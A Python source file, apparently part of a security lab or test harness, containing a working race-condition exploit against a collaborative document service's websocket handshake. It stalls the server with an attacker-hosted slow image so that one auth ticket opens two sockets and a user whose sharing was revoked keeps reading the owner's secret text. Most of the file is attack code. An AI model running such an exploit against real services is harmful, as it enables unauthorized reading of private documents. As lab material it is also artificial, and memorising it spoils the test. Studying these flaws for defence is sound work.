"""Between the check and the use the server waits for the attacker, who lets it wait as long as it takes.

Nothing here is luck: the picture that the server looks up is on the attacker's machine, which answers
after the right to read was taken away, or after the ticket was used a second time.
"""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

from lab.harness import Outcome, Refused, Session, Target

BY_HAND = True
WHY = (
    "The ticket is taken out before anything is waited for, so it counts once. The right to read is "
    "looked at before the wait and the socket is listed after it: a user who is unshared in between is "
    "not in the list of sockets to close, and reads along for good."
)
TRAIL = frozenset({"authn_token_reuse", "privilege_permissions_changed"})

SECRET = "we sell the company in May"


class Picture:
    """The attacker's server for one picture: it says when it is asked, and answers when it is told to."""

    def __init__(self) -> None:
        self.answer = asyncio.Event()
        self._asked = asyncio.Semaphore(0)

    async def asked(self) -> None:
        """The server has asked for it, once more."""
        async with asyncio.timeout(60):
            await self._asked.acquire()

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """One request."""
        await reader.readuntil(b"\r\n\r\n")
        self._asked.release()
        await self.answer.wait()
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        await writer.drain()
        writer.close()


class Reader:
    """A handshake that takes its time, and what is read on its socket.

    Attributes:
        arrived: The handshake is over: the document has been read, or nothing ever will be.
    """

    def __init__(self, target: Target, ticket: dict[str, Any]) -> None:
        self.arrived = asyncio.Event()
        self.document: str | None = None
        self._stay = asyncio.Event()
        self._task = asyncio.create_task(self._read(target, ticket))

    async def _read(self, target: Target, ticket: dict[str, Any]) -> list[Any]:
        try:
            async with target.connect(**ticket) as socket:
                self.document = str((await socket.receive())["text"])
                self.arrived.set()
                await self._stay.wait()
                return await socket.heard(0.5)
        except Refused:
            return []
        finally:
            self.arrived.set()

    async def heard(self) -> list[Any]:
        """Return the messages after the document."""
        self._stay.set()
        return await self._task


@asynccontextmanager
async def slow_picture() -> AsyncIterator[tuple[str, Picture]]:
    """Return its address, and the object that delays the answer."""
    picture = Picture()
    server = await asyncio.start_server(picture.serve, "127.0.0.1", 0)
    try:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/me.png", picture
    finally:
        picture.answer.set()
        server.close()


async def way_in(target: Target, session: Session) -> dict[str, Any]:
    """A ticket, as what `connect` takes."""
    body = {"endpoint": "/ws/document"}
    answer = (await target.request("POST", "/auth/ticket", session=session, body=body)).json()
    ticket = [f"stormdoor.ticket.{answer.get('ticket')}", "stormdoor.v1"]
    return {
        "path": "/ws/document",
        "subprotocols": answer.get("protocols", ticket),
        "who": session.who,
    }


async def legitimate(target: Target) -> None:
    """The other user reads the owner's text."""
    olga, mallory = await target.login("olga"), await target.login("mallory")
    async with (
        target.connect(**await way_in(target, olga)) as writer,
        target.connect(**await way_in(target, mallory)) as reader,
    ):
        await writer.receive()
        await reader.receive()
        await writer.send({"type": "write", "text": "The plan, second version."})
        assert (await reader.receive())["text"] == "The plan, second version."


async def attack(target: Target) -> Outcome:
    """Use one ticket twice while the first use waits; then be unshared while the handshake waits."""
    olga, mallory = await target.login("olga"), await target.login("mallory")
    won = []
    if await twice(target, mallory):
        won.append("uses one ticket twice")
    if await unshared(target, olga, mallory):
        won.append("reads along after it was unshared")
    return target.outcome(
        bool(won), " and ".join(won) or "what was checked is still true at its use"
    )


async def twice(target: Target, mallory: Session) -> bool:
    """Return whether a ticket opens two sockets."""
    async with slow_picture() as (url, picture):
        await put_picture(target, mallory, url)
        ticket = await way_in(target, mallory)
        first = Reader(target, ticket)
        await picture.asked()
        target.note("the first use of the ticket waits for a picture")
        second = Reader(target, ticket)
        # It is refused, or it has passed the check and waits for the picture, too.
        over = [asyncio.create_task(one) for one in (second.arrived.wait(), picture.asked())]
        _, left = await asyncio.wait(over, return_when=asyncio.FIRST_COMPLETED)
        for one in left:
            one.cancel()
        picture.answer.set()
        for reader in (first, second):
            await reader.heard()
        return first.document is not None and second.document is not None


async def unshared(target: Target, olga: Session, mallory: Session) -> bool:
    """Return whether the removed user reads text that is written afterwards."""
    async with slow_picture() as (url, picture):
        await put_picture(target, mallory, url)
        reader = Reader(target, await way_in(target, mallory))
        await picture.asked()
        target.note("the handshake of mallory waits for a picture")
        async with target.connect(**await way_in(target, olga)) as writer:
            await writer.receive()
            assert (await writer.ask({"type": "unshare", "who": "mallory"}))["type"] == "done"
            picture.answer.set()
            await reader.arrived.wait()
            await writer.send({"type": "write", "text": SECRET})
            return any(SECRET in str(one) for one in await reader.heard())


async def put_picture(target: Target, mallory: Session, url: str) -> None:
    """Say where one's picture is."""
    async with target.connect(**await way_in(target, mallory)) as socket:
        await socket.receive()
        assert (await socket.ask({"type": "picture", "url": url}))["type"] == "done"
